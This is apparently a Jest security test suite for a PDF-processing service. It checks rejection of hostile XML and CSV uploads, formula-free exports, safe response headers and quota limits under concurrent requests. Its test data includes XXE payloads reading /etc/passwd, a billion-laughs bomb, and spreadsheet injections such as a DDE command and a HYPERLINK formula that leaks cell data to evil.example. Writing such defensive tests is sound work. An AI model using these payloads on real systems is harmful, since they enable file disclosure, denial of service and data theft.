import assert from "node:assert/strict";
import { describe, it } from "@jest/globals";
import { LIMITS } from "@takeoff/contracts";
import { database, readAll, smallPdf, staff, tenant, uniqueSuffix, waitFor, type ApiResponse, type Person } from "@takeoff/testing";
import { formatCounts } from "../harness/print.ts";
import { statuses, timed } from "./harness/requests.ts";
import { onProductionProduct, type ProductionHarness, type Figures } from "../harness/case.ts";

const PATIENCE_MS = 60_000;

async function uploaded({ client }: Person): Promise<number> {
  const { id } = (await client.upload({ expectOk: true })).json as { id: number };
  const checked = async (): Promise<boolean> => ((await client.get(`/pdfs/${id}`)).json as { status: string }).status === "pending";
  await waitFor(checked, { what: "the document's check", timeoutMs: PATIENCE_MS });
  return id;
}

const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join("");
const XML: Record<string, string> = {
  "a billion laughs": `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]><a>&l9;</a>`,
  "a file of the machine": '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><a>&f;</a>',
  "an address": '<!DOCTYPE a SYSTEM "http://127.0.0.1:1/x.dtd"><a/>',
  "a parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><a/>',
  "a declaration after blanks": `${" ".repeat(70_000)}<!DOCTYPE a><a/>`,
  "an undeclared entity": "<a>&nothing;</a>",
  "100,000 levels": "<a>".repeat(100_000) + "</a>".repeat(100_000),
  "an end that does not come": "<a>".repeat(1_000),
  "a page": "<!doctype html><html><script>alert(1)</script></html>",
  "two roots": "<a/><b/>",
  nothing: "",
};
const CSV: Record<string, Buffer> = {
  nothing: Buffer.alloc(0),
  "a program": Buffer.concat([Buffer.from("MZ\x90\0\0"), Buffer.alloc(500, 0xff)]),
  "broken text": Buffer.from([0x4d, 0x61, 0xc3, 0x28, 0x0a, 0xff, 0xfe, 0xfd]),
};
/** What a spreadsheet would run. */
const FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "\t=1+1", "\r=1+1"];

/** Results that attack who reads them: XML, CSV, and a page in place of a processed PDF. */
async function resultFiles({ within }: ProductionHarness): Promise<Figures> {
  const [{ user }, operator] = await Promise.all([tenant(), staff()]);
  const id = await uploaded(user);
  const answers: ApiResponse[] = [];
  let slowest = 0;
  const refuse = async (what: string, files: Parameters<Person["client"]["process"]>[1]): Promise<void> => {
    const { ms, value } = await timed(() => operator.client.process(id, files));
    slowest = Math.max(slowest, ms / 1000);
    answers.push(value);
    // Levels are well-formed: they may be taken, and then cost nothing.
    assert(value.status === 422 || what === "100,000 levels", `${what} was answered ${value.status}`);
  };
  for (const [what, xml] of Object.entries(XML)) await refuse(what, { xml });
  for (const [what, csv] of Object.entries(CSV)) await refuse(what, { csv });
  await refuse("a page as processed PDF", { processed: Buffer.from("<html><script>alert(1)</script>") });
  const cells = FORMULAS.map((formula) => `"${formula.replaceAll('"', '""')}"`).join();
  const header = FORMULAS.map((_, index) => `C${index}`).join();
  const processed = Buffer.concat([smallPdf(), Buffer.from("<script>alert(1)</script>")]);
  await operator.client.process(id, { csv: `${header}\n${cells}\n`, xml: "<a>&lt;script&gt;</a>", processed }, { expectOk: true });
  await operator.client.put(`/pdfs/status/${id}`, undefined, { expectOk: true });
  await proveNeutral(user, id);
  return {
    tried: answers.length,
    answered: formatCounts(statuses(answers)),
    slowest: within("a refusal", slowest, 2),
    formulas: FORMULAS.length,
  };
}

async function proveNeutral({ client }: Person, id: number): Promise<void> {
  const extracted = async (): Promise<boolean> => ((await client.get(`/pdfs/${id}/data`)).json as { rows: unknown[] }).rows.length === 1;
  await waitFor(extracted, { what: "the extraction", timeoutMs: PATIENCE_MS });
  const csv = (await client.get(`/pdfs/${id}/export?format=csv`, { expectOk: true })).body.toString("utf8");
  const cells = csv.split("\r\n").slice(1).join("\r\n");
  assert(
    !/(^|[,\n]"?)[=+\-@\t\r]/.test(cells.replace(/^\ufeff/, "")),
    `an exported cell would be run: ${JSON.stringify(cells.slice(0, 300))}`,
  );
  const xlsx = (await client.get(`/pdfs/${id}/export?format=xlsx`, { expectOk: true })).body;
  assert(!xlsx.includes("<f>"), "an exported workbook holds a formula");
  for (const path of ["preview?version=processed", "preview", "download", "files/csv", "files/xml"]) {
    const { headers, stream } = await client.open("GET", `/pdfs/${id}/${path}`);
    await readAll(stream);
    const policy = headers.get("content-security-policy") ?? "";
    const protections = [headers.get("x-content-type-options"), /default-src 'none'/.test(policy), /sandbox/.test(policy)];
    assert(protections.join() === "nosniff,true,true", `${path} is sent with ${protections.join()}`);
    const disposition = headers.get("content-disposition") ?? "";
    assert(
      /^(inline|attachment); filename="[^"\r\n]*"; filename\*=UTF-8''[^"\r\n;]*$/.test(disposition),
      `${path} is named ${disposition}`,
    );
  }
}

const CUSTOM = 260;
const ASKED = 25;

/** Quotas that are asked for at once. */
async function quotasRaced(): Promise<Figures> {
  const { user } = await tenant();
  const create = (): Promise<ApiResponse> =>
    user.client.post("/user/parameters/custom", { parameter_name: `raced ${uniqueSuffix()}`, parameter_value: "1" });
  const parameters = await Promise.all(Array.from({ length: CUSTOM }, create));
  const created = parameters.filter(({ status }) => status === 201).length;
  const { length } = (await user.client.get("/user/parameters", { expectOk: true })).json as unknown[];
  assert(created === LIMITS.customParameters && length === created, `${created} parameters were made, ${length} are there`);
  const asked = await Promise.all(Array.from({ length: ASKED }, () => user.client.post("/forgot-password", { email: user.email })));
  const { rows } = await database().query("select 1 from identity.password_resets where user_id = $1", [user.id]);
  assert(rows.length <= LIMITS.passwordResetsPerAccount, `${rows.length} reset links were made at once`);
  return { parameters: formatCounts(statuses(parameters)), "reset requests": formatCounts(statuses(asked)), links: rows.length };
}

describe("result-files", () => {
  it("rejects XML with entities, broken CSV and a page as processed PDF, and exports no formula", onProductionProduct(resultFiles));
});

describe("quotas-raced (quick)", () => {
  it("holds the quotas of parameters and reset links under concurrent requests", onProductionProduct(quotasRaced));
});
